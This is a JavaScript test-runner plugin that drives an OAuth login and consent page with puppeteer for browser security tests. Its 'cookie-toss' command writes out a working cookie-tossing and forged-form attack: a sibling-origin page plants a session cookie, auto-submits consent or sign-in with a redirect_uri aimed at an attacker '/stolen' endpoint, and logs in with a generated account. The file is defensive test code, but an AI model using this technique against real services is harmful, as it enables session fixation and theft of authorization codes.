// A web-test-runner plugin that drives the real login page (it lives on the service's
// origin, cross-origin to the test page, so the test cannot reach into it). Browser tests
// call it with executeServerCommand from @web/test-runner-commands.
//
//   'login-popup'    { action, login?, password?, timeout? } -> { url }
//       Waits for the popup the test page opened on /oauth/auth, then: `inspect` (nothing),
//       `authorize` (sign in if asked, then Authorize), `cancel` (the page's Cancel button),
//       `close` (closes the window, as a user would), `post` (posts `message` to the opener
//       from inside the popup, after going to `goto` if given, for answers the page itself
//       would never send; then closes it if `close`).
//   'login-redirect' { url, action } -> { location }
//       Opens a prompt-page URL in a fresh tab, signs in, Authorizes (or Cancels) and gives
//       back where the page redirected to, without loading that address.
//   'post-from-frame' { urlContains, message } -> true
//       Posts `message` to the test page from inside one of its iframes (another window).
//   'consent-layout' { authUrl, width, height } -> { scrollWidth, scrollHeight, contentBottom, destination }
//       In a fresh browser context with that viewport: signs in as demo on `authUrl` and
//       measures the consent screen, and reads where it says the answer goes.
//   'cookie-toss'    { authUrl, attackerUrl, form: 'authorize' | 'login' } -> { status, heading, stolen, signedInAs }
//       In a fresh browser context: the victim signs in on `authUrl` (as demo); then a page on
//       `attackerUrl` (another port of 127.0.0.1, so the same site) sets the session cookie it
//       got for itself with a narrower path, and auto-submits a forged consent (or sign-in, as
//       a generated account) form to the service. Gives back the POST's status and heading, any URL the
//       attacker's redirect_uri received, and who the consent screen names afterwards.
//
// Works with @web/test-runner-chrome (puppeteer): session.browser.getPage(session.id).

const DEMO = { login: 'demo', password: 'listen-offline' };

/** Fills the sign-in form when the page shows it; resolves once the consent screen is up. */
async function signIn(page, { login = DEMO.login, password = DEMO.password } = {}) {
  await page.waitForSelector('#password, button[value="authorize"]', { timeout: 10_000 });
  if (!(await page.$('#password'))) return false;
  await page.type('#login', login);
  await page.type('#password', password);
  await Promise.all([page.waitForNavigation({ waitUntil: 'domcontentloaded' }), page.click('button.primary[type="submit"]')]);
  await page.waitForSelector('button[value="authorize"]', { timeout: 10_000 });
  return true;
}

/** Clicks a button that makes the page close or leave; its closing is not an error. */
async function clickAway(page, selector) {
  await page.click(selector).catch((error) => {
    if (!/closed|detached|Target/i.test(String(error?.message))) throw error;
  });
}

export async function popupCommand(page, payload = {}) {
  const { action = 'inspect', timeout = 10_000, message } = payload;
  const target = await page.browser().waitForTarget(
    (t) => t.type() === 'page' && t.url().includes('/oauth/auth') && t.opener() === page.target(),
    { timeout },
  );
  const url = target.url();
  const popup = await target.asPage();
  if (action === 'inspect') return { url };
  if (action === 'close') {
    await popup.close();
    return { url };
  }
  await popup.waitForSelector('main', { timeout });
  if (action === 'post') {
    // `goto`: first take the popup to another address (another origin), as a hijacked popup would be.
    if (payload.goto) await popup.goto(payload.goto, { waitUntil: 'domcontentloaded' });
    await popup.evaluate((m) => window.opener.postMessage(m, '*'), message);
    if (payload.close) await popup.close();
    return { url };
  }
  if (action === 'cancel') {
    await clickAway(popup, 'button.secondary');
    return { url };
  }
  if (action === 'authorize') {
    const signedIn = await signIn(popup, payload);
    await clickAway(popup, 'button[value="authorize"]');
    return { url, signedIn };
  }
  throw new Error(`login-popup: unknown action ${action}`);
}

async function redirectCommand(page, { url, action = 'authorize', ...credentials }) {
  const serviceOrigin = new URL(url).origin;
  const tab = await page.browserContext().newPage();
  let location;
  try {
    await tab.setRequestInterception(true);
    // Only the service is loaded: the redirect target is reported, never fetched.
    tab.on('request', (request) => (request.url().startsWith(serviceOrigin) ? request.continue() : request.abort()));
    tab.on('response', (response) => {
      if (response.status() === 302 && response.url().includes('/oauth/authorize')) location = response.headers().location;
    });
    await tab.goto(url, { waitUntil: 'domcontentloaded' });
    if (action === 'cancel') {
      await tab.waitForSelector('button.secondary');
      await Promise.all([tab.waitForNavigation().catch(() => {}), tab.click('button.secondary')]);
    } else {
      await signIn(tab, credentials);
      await Promise.all([tab.waitForNavigation().catch(() => {}), tab.click('button[value="authorize"]')]);
    }
    for (let i = 0; !location && i < 50; i++) await new Promise((r) => setTimeout(r, 100));
    if (!location) throw new Error(`login-redirect: no redirect came from ${url}; the tab shows ${tab.url()}`);
    return { location };
  } finally {
    await tab.close().catch(() => {});
  }
}

async function frameCommand(page, { urlContains, message }) {
  let frame;
  // An out-of-process frame can reach puppeteer's frame tree a little after its load event.
  for (let i = 0; !frame && i < 50; i++) {
    frame = page.frames().find((f) => f !== page.mainFrame() && f.url().includes(urlContains));
    if (!frame) await new Promise((r) => setTimeout(r, 100));
  }
  if (!frame) throw new Error(`post-from-frame: no frame at ${urlContains} among ${page.frames().map((f) => f.url()).join(', ')}`);
  await frame.evaluate((m) => window.parent.postMessage(m, '*'), message);
  return true;
}

async function consentLayoutCommand(page, { authUrl, width, height }) {
  const context = await page.browser().createBrowserContext();
  try {
    const tab = await context.newPage();
    await tab.setViewport({ width, height });
    await tab.goto(authUrl, { waitUntil: 'domcontentloaded' });
    await signIn(tab);
    return await tab.evaluate(() => ({
      scrollWidth: document.documentElement.scrollWidth,
      scrollHeight: document.documentElement.scrollHeight,
      contentBottom: Math.ceil(document.querySelector('main').getBoundingClientRect().bottom),
      destination: /Your answer goes to (.+)\./.exec(document.body.innerText)?.[1],
    }));
  } finally {
    await context.close();
  }
}

async function cookieTossCommand(page, { authUrl, attackerUrl, form }) {
  const service = new URL(authUrl).origin;
  const context = await page.browser().createBrowserContext();
  try {
    const tab = await context.newPage();
    await tab.goto(authUrl, { waitUntil: 'domcontentloaded' });
    await signIn(tab);
    // The attacker's own pair, as any visitor gets one.
    const res = await fetch(authUrl);
    const cookie = /^(oauth_session=[^;]+)/.exec(res.headers.get('set-cookie') ?? '')?.[1];
    const html = await res.text();
    const fields = Object.fromEntries([...html.matchAll(/<input type="hidden" name="([^"]*)" value="([^"]*)">/g)].map((m) => [m[1], m[2].replace(/&#(\d+);/g, (_, c) => String.fromCharCode(Number(c)))]));
    const stolen = `${attackerUrl}/stolen`;
    // The attacker's own account: a generated one, with the documented shared password.
    const users = await (await fetch(`${service}/v1/users/search?query=a&limit=5&app_name=cookie-toss`)).json();
    const attacker = users.data.find((u) => u.handle !== 'demo').handle;
    Object.assign(fields, { scope: 'write', redirect_uri: stolen }, form === 'login' ? { login: attacker, password: 'catalog-listener' } : { decision: 'authorize' });
    delete fields.origin;
    let stolenUrl;
    let status;
    await tab.setRequestInterception(true);
    tab.on('request', (request) => (request.url().startsWith(stolen) ? ((stolenUrl = request.url()), request.abort()) : request.continue()));
    tab.on('response', (response) => {
      if (response.request().method() === 'POST') status = response.status();
    });
    await tab.goto(`${attackerUrl}/attacker-page`, { waitUntil: 'domcontentloaded' });
    await Promise.all([
      tab.waitForNavigation({ waitUntil: 'domcontentloaded' }).catch(() => {}),
      tab.evaluate(
        (c, action, f) => {
          document.cookie = `${c}; path=${new URL(action).pathname}`; // tossed from a sibling origin
          const el = document.createElement('form');
          el.method = 'post';
          el.action = action;
          for (const [name, value] of Object.entries(f)) el.append(Object.assign(document.createElement('input'), { type: 'hidden', name, value }));
          document.body.append(el);
          el.submit();
        },
        cookie,
        `${service}/oauth/${form}`,
        fields,
      ),
    ]);
    const heading = await tab.$eval('h1', (h) => h.textContent).catch(() => tab.url());
    await tab.goto(authUrl, { waitUntil: 'domcontentloaded' });
    const signedInAs = await tab.$eval('main', (m) => /Signed in as (.+?) \(/.exec(m.textContent)?.[1] ?? 'nobody');
    return { status, heading, stolen: stolenUrl, signedInAs };
  } finally {
    await context.close();
  }
}

/** The plugin: one import and one entry in web-test-runner.config.mjs's `plugins`. */
export function popupDriverPlugin() {
  return {
    name: 'login-popup-driver',
    async executeCommand({ command, payload, session }) {
      if (!['login-popup', 'login-redirect', 'post-from-frame', 'cookie-toss', 'consent-layout'].includes(command)) return undefined;
      if (session.browser.type !== 'puppeteer') throw new Error(`${command} needs @web/test-runner-chrome (puppeteer)`);
      const page = session.browser.getPage(session.id);
      if (command === 'login-popup') return popupCommand(page, payload);
      if (command === 'login-redirect') return redirectCommand(page, payload);
      if (command === 'cookie-toss') return cookieTossCommand(page, payload);
      if (command === 'consent-layout') return consentLayoutCommand(page, payload);
      return frameCommand(page, payload);
    },
  };
}
